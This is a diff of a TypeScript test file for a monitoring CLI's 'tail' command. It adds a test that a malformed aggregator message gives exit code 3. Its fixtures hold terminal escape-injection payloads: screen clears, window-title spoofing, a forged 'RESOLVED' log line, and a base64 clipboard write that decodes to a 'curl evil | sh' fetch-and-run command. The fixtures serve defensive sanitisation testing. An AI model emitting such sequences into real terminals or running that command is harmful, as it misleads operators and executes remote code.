@@ -16,11 +16,11 @@ const TOKEN = 'tail-token-0123456789abcdef';
 const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
 
 const HOSTILE = [
-  finding('evil\u009b2J', 'disk.usage', '/\x1b]0;all good\x07', 'critical', { message: 'clear\x1b[2J\x1b[H clipboard\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 done\n12:00:00  node-1  RESOLVED  disk.usage  /  all good' }),
+  finding('evil', 'disk.usage', '/\x1b]0;all good\x07\u009b2J', 'critical', { message: 'clear\x1b[2J\x1b[H clipboard\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 done\n12:00:00  node-1  RESOLVED  disk.usage  /  all good' }),
   finding('n2', 'sockstat.orphans', 'tcp', 'warning', { message: 'csi \u009b31m red and a title \u009d0;pwned\u009c' }),
 ];
 
-async function fakeAggregator(port: number) {
+async function fakeAggregator(port: number, findings: unknown[] = HOSTILE) {
   const wss = new WebSocketServer({ noServer: true });
   const sockets = new Set<WebSocket>();
   const server = http.createServer((req, res) => {
@@ -31,7 +31,7 @@ async function fakeAggregator(port: number) {
     if (req.headers.authorization !== `Bearer ${TOKEN}`) return void socket.end('HTTP/1.1 401 Unauthorized\r\ncontent-length: 0\r\n\r\n');
     wss.handleUpgrade(req, socket, head, (ws) => {
       sockets.add(ws);
-      ws.on('message', () => ws.send(JSON.stringify({ v: 1, type: 'active', findings: HOSTILE })));
+      ws.on('message', () => ws.send(JSON.stringify({ v: 1, type: 'active', findings })));
     });
   });
   await new Promise<void>((r) => server.listen(port, '127.0.0.1', () => r()));
@@ -123,4 +123,13 @@ t.test('what a tail that never got a stream says depends on why', async (t) => {
   t.match(unreachableHint(url, { kind: 'tls', text: 'TLS: self-signed certificate' }), /NODE_EXTRA_CA_CERTS/);
   t.match(unreachableHint(url, { kind: 'closed', text: 'closed 1009 Max payload size exceeded' }), /accepted the connection, then the stream ended \(closed 1009 Max payload size exceeded\)/, 'not "start one" when one is there');
   t.notMatch(unreachableHint(url, { kind: 'closed', text: 'closed 1009' }), /start one/);
+});
+
+t.test('an aggregator that answers nonsense: tail --no-follow says so and exits 3 instead of waiting forever', async (t) => {
+  const port = await freePort();
+  const agg = await fakeAggregator(port, [{ ...finding('bad node name!', 'disk.usage', '/', 'critical') }]);
+  t.teardown(() => agg.close());
+  const r = await runAsync(['tail', '--no-follow'], { NODEWARDEN_AGGREGATOR: `ws://127.0.0.1:${port}`, NODEWARDEN_TOKEN: TOKEN });
+  t.equal(r.code, 3, 'unknown, not OK and not a hang');
+  t.match(r.stderr, /invalid message from the aggregator/);
 });
